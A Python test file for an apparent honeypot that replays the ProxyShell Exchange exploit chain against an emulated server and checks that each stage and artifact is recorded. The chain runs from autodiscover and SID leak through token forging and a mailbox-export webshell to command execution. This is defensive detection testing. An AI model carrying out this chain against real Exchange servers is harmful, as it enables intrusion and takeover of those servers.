"""ProxyShell walked as dmaasland/horizon3 (pypsrp) and Metasploit do (exchange-facts.md B.6):
autodiscover → SID → X-Rps-CAT → EWS draft → WS-Man → New-MailboxExportRequest → shell → command."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from collections.abc import Callable

from honeyscope.sensor.personas.base import Reply
from honeyscope.testing import exploits
from honeyscope.testing.exploits import PsrpClient, receive_messages

Send = Callable[..., Reply]
EMAIL = "administrator@contoso.com"
RAND = "kqzpa@mbxcv.xyz"
SHELL_NS = "{http://schemas.microsoft.com/wbem/wsman/1/windows/shell}"


def _open_pool(send: Send, post: Callable[[bytes], exploits.ToolRequest], client: PsrpClient, chain: str) -> None:
    """pypsrp RunspacePool.open: Create (200 + rsp:Shell/rsp:ShellId), then Receive until Opened."""
    reply = send(post(client.create()))
    assert reply.response.status == 200 and b"ResourceCreated" in reply.response.body
    body = ET.fromstring(reply.response.body).find("{http://www.w3.org/2003/05/soap-envelope}Body")
    assert body is not None and body.find(f"{SHELL_NS}Shell/{SHELL_NS}ShellId") is not None
    assert reply.stage == f"{chain}.wsman_create"
    messages = receive_messages(send(post(client.receive())).response.body)
    assert [t for t, _ in messages] == [0x00010002, 0x00021009, 0x00021005]
    assert '<I32 N="RunspaceState">2</I32>' in messages[-1][1]


def _invoke(send: Send, post: Callable[[bytes], exploits.ToolRequest], client: PsrpClient,
            cmdlets: list[tuple[str, dict[str, str]]], extra: str = "") -> tuple[Reply, list[tuple[int, str]]]:
    command_id, body = client.command(cmdlets, extra)
    reply = send(post(body))
    assert reply.response.status == 200 and command_id.encode() in reply.response.body
    received = send(post(client.receive(command_id)))
    assert b"CommandState/Done" in received.response.body
    messages = receive_messages(received.response.body)
    assert messages[-1] == (0x00041006, '<Obj RefId="0"><MS><I32 N="PipelineState">4</I32></MS></Obj>')
    send(post(client.signal(command_id)))
    return reply, messages


def test_dmaasland_proxyshell_rce(send: Send) -> None:
    reply = send(exploits.dma_post(RAND, "/autodiscover/autodiscover.xml",
                                   exploits.AUTODISCOVER_BODY.format(email=EMAIL), "text/xml"))
    assert reply.stage == "proxyshell.autodiscover"
    legacy_dn = ET.fromstring(reply.response.body).find("{*}Response/{*}User/{*}LegacyDN").text  # type: ignore[union-attr]
    assert legacy_dn

    data = legacy_dn.encode() + exploits.MAPI_CONNECT_SUFFIX
    reply = send(exploits.dma_post(RAND, "/mapi/emsmdb", data, "application/mapi-http"))
    sid = reply.response.body.decode("latin-1").split("with SID ")[1].split(" and MasterAccountSid")[0]
    assert reply.stage == "proxyshell.sid_leak" and sid.endswith("-500")
    token = exploits.common_access_token(EMAIL, sid)

    subject = "qwertyuiopasdfgh"
    reply = send(exploits.dma_create_item(RAND, token, sid, subject, EMAIL))
    assert reply.stage == "proxyshell.ews_createitem" and b"NoError" in reply.response.body
    assert reply.artifacts[0].kind == "payload"

    def post(body: bytes) -> exploits.ToolRequest:
        return exploits.dma_post(RAND, f"/powershell/?X-Rps-CAT={token}", body, "application/soap+xml;charset=UTF-8")

    client = PsrpClient()
    _open_pool(send, post, client, "proxyshell")
    reply, messages = _invoke(send, post, client, [("New-ManagementRoleAssignment",
                                                    {"Role": "Mailbox Import Export", "User": EMAIL})])
    assert reply.stage == "proxyshell.role_assignment" and "CVE-2021-34523" in reply.tags
    file_path = f"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\{subject}.aspx"
    reply, messages = _invoke(send, post, client, [("New-MailboxExportRequest", {
        "Mailbox": EMAIL, "FilePath": file_path, "IncludeFolders": "#Drafts#",
        "ContentFilter": f"Subject -eq '{subject}'"})])
    assert reply.stage == "proxyshell.export_request"
    assert any(a.kind == "webshell" and a.name == file_path and a.content.startswith(b"\x95\xd6")
               for a in reply.artifacts)
    assert "Queued" in messages[0][1]
    assert send(post(client.delete())).stage == "proxyshell.wsman_delete"

    shell_url = f"/aspnet_client/{subject}.aspx"
    assert send(exploits.ToolRequest("GET", shell_url)).response.status == 200
    reply = send(exploits.dma_exec(shell_url, "zzdel", "whoami"))
    output = reply.response.body.split(b"zzdel")[1]
    assert output == b"nt authority\\system\r\n" and reply.stage == "webshell.command"
    assert reply.artifacts[0].content == b"cmd.exe /c whoami"


def test_metasploit_proxyshell_powershell_probe_and_resolve_names(send: Send) -> None:
    reply = send(exploits.msf_proxyshell(EMAIL, "/EWS/exchange.asmx", method="POST",
                                         body=exploits.resolve_names_body(), ctype="text/xml"))
    assert reply.stage == "proxyshell.ews_resolvenames"
    addresses = re.findall(rb"<t:Mailbox>.*?<t:EmailAddress>(.*?)</t:EmailAddress>", reply.response.body)
    assert b"administrator@contoso.com" in addresses
    assert b"X500:/o=First Organization" in reply.response.body

    token = exploits.common_access_token("Administrator", "S-1-5-21-3556931835-2135714726-3216061193-500")
    probe = exploits.ToolRequest("GET", f"/PowerShell/?X-Rps-CAT={token}"
                                        f"&Email=Autodiscover/autodiscover.json?a={EMAIL}")
    # The MSF probe goes through the autodiscover.json cut; without it the front end 401s.
    assert send(probe).response.status != 200
    probe = exploits.msf_proxyshell(EMAIL, f"/PowerShell/?X-Rps-CAT={token}")
    reply = send(probe)
    assert reply.response.status == 200 and reply.stage == "proxyshell.powershell"
    assert "cat.user=Administrator" in reply.tags


def test_powershell_without_token_is_left_to_the_front_end(send: Send) -> None:
    reply = send(exploits.msf_proxyshell(EMAIL, "/PowerShell/", method="POST", body=b"<s:Envelope/>"))
    assert reply.response.status == 401 and reply.stage is None
